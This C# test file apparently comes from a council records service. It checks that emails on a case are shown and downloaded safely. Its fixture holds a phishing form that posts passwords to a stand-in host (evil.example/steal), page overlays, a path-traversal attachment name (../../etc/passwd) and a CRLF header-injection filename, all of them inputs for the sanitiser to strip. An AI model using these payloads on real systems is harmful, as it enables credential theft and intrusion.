using System.Net;
using System.Text;
using KccRights.Host.Pages.Cases;
using KccRights.Intake.Classification;
using KccRights.Intake.Storage;
using Microsoft.Extensions.Logging.Abstractions;
using Npgsql;

namespace KccRights.Host.Tests.WebInput;

/// <summary>
/// An email on a case, stored encrypted as intake stores it, then read and downloaded through the running service
/// (issue 9 Build 8): safe attachment names, out-of-range indexes not found, no forms or overlays in the shown HTML.
/// </summary>
public sealed class DownloadTests
{
    private const string Hostile = """
        From: Hostile Sender <hostile@example.com>
        To: data.protection@kent.gov.uk
        Subject: My records
        Message-ID: <{ID}@example.com>
        Date: Mon, 2 Nov 2026 10:00:00 +0000
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="b1"

        --b1
        Content-Type: text/html; charset=utf-8

        <p>Please send my records.</p>
        <form action="https://evil.example/steal" method="post"><label>Password <input name="password" type="password"></label><textarea name="t"></textarea><select name="s"><option>a</option></select><button type="submit">Sign in again</button></form>
        <div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">Session expired overlay</div>
        <div style="position:absolute;top:0">Absolute overlay</div>
        --b1
        Content-Type: text/plain; name="passwd"
        Content-Disposition: attachment; filename="../../etc/passwd"

        root:x:0:0
        --b1--

        """;

    private static async Task<(string Reference, long MessageId)> CaseWithHostileEmailAsync()
    {
        using var api = await WebInputService.ApiAsync("demo-officer");
        var reference = await WebInputService.OpenCaseAsync(api);
        var raw = Encoding.UTF8.GetBytes(Hostile.Replace("{ID}", Guid.NewGuid().ToString("N"), StringComparison.Ordinal).ReplaceLineEndings("\r\n"));
        await using var dataSource = NpgsqlDataSource.Create(WebInputService.Service.DatabaseConnectionString());
        var store = new InboundMessageStore(dataSource, MessageCipher.FromOptions(new MessageStorageOptions(), WebInputService.Service.DataDirectory), TimeProvider.System, NullLogger<InboundMessageStore>.Instance);
        var stored = await store.StoreAsync(raw, DateTimeOffset.UtcNow, "test");
        await using var connection = await dataSource.OpenConnectionAsync();
        await using var link = new NpgsqlCommand(
            "INSERT INTO messages_cases (inbound_message_id, case_id, role, linked_at) SELECT @m, id, 'request', now() FROM cases WHERE reference = @r", connection);
        link.Parameters.AddWithValue("m", stored.Id);
        link.Parameters.AddWithValue("r", reference);
        Assert.That(await link.ExecuteNonQueryAsync(), Is.EqualTo(1));
        return (reference, stored.Id);
    }

    [Test]
    public async Task Attachment_NamedWithAPath_IsSentAsAPlainFileName_AndBadIndexesAreNotFound()
    {
        var (reference, id) = await CaseWithHostileEmailAsync();
        using var officer = await StaffSession.SignInAsync("demo-officer");
        var path = $"/cases/{reference}/messages/{id}?handler=Attachment";

        using var download = await officer.Http.GetAsync(new Uri(path + "&index=0", UriKind.Relative));
        var statuses = new List<HttpStatusCode>();
        foreach (var index in new[] { "&index=1", "&index=-1", "&index=99999999999", "&index=abc", "" })
        {
            using var response = await officer.Http.GetAsync(new Uri(path + index, UriKind.Relative));
            statuses.Add(response.StatusCode);
        }

        var disposition = download.Content.Headers.ContentDisposition;
        Assert.Multiple(async () =>
        {
            Assert.That(download.StatusCode, Is.EqualTo(HttpStatusCode.OK));
            Assert.That(disposition?.DispositionType, Is.EqualTo("attachment"));
            Assert.That(disposition?.FileName?.Trim('"'), Is.EqualTo("passwd"));
            Assert.That(disposition?.FileNameStar ?? "passwd", Is.EqualTo("passwd"));
            Assert.That(await download.Content.ReadAsStringAsync(), Does.Contain("root:x:0:0"));
            Assert.That(statuses, Is.All.EqualTo(HttpStatusCode.NotFound), "index 1, -1, 99999999999, abc and none");
        });
    }

    [Test]
    public async Task MessagePage_DropsFormsAndPositionedOverlays_AndListsTheSafeName()
    {
        var (reference, id) = await CaseWithHostileEmailAsync();
        using var officer = await StaffSession.SignInAsync("demo-officer");

        var page = await officer.GetPageAsync($"/cases/{reference}/messages/{id}");
        var body = page[page.IndexOf("id=\"message-body\"", StringComparison.Ordinal)..];
        body = body[..body.IndexOf("Attachments</h2>", StringComparison.Ordinal)];

        Assert.Multiple(() =>
        {
            Assert.That(body, Does.Contain("Please send my records."));
            Assert.That(body, Does.Not.Contain("<form").And.Not.Contain("<input").And.Not.Contain("<button").And.Not.Contain("<textarea").And.Not.Contain("<select"));
            Assert.That(body, Does.Not.Contain("evil.example"));
            Assert.That(body, Does.Not.Contain("position").And.Not.Contain("z-index"));
            Assert.That(page, Does.Contain(">passwd</a>"));
            Assert.That(page, Does.Not.Contain("../../etc/passwd"));
        });
    }

    [TestCase("../../etc/passwd", "passwd")]
    [TestCase("..\\..\\Windows\\system32\\evil.dll", "evil.dll")]
    [TestCase("report\r\nSet-Cookie: a=b.pdf", "reportSet-Cookie a=b.pdf")]
    [TestCase("\"quoted\".txt", "quoted.txt")]
    [TestCase("...", "attachment")]
    [TestCase("../", "attachment")]
    [TestCase(null, "attachment")]
    [TestCase(".htaccess", "htaccess")]
    public void SafeFileName_KeepsOnlyAPlainName(string? name, string expected) =>
        Assert.That(MessageModel.SafeFileName(name), Is.EqualTo(expected));

    [Test]
    public void SafeFileName_CutsALongNameKeepingItsExtension() =>
        Assert.That(MessageModel.SafeFileName(new string('a', 300) + ".pdf"), Is.EqualTo(new string('a', 96) + ".pdf"));

    [Test]
    public void Sanitise_DropsFormControlsAndPositioning_KeepsOrdinaryStyles()
    {
        var html = HtmlText.Sanitise("""<p style="color: red; position: fixed">Hi</p><form><input><button>x</button></form><fieldset><legend>L</legend></fieldset>""");

        Assert.Multiple(() =>
        {
            Assert.That(html, Does.Contain("color:"), "ordinary styles kept");
            Assert.That(html, Does.Not.Contain("position").And.Not.Contain("<form").And.Not.Contain("<input").And.Not.Contain("<button").And.Not.Contain("<fieldset"));
        });
    }
}
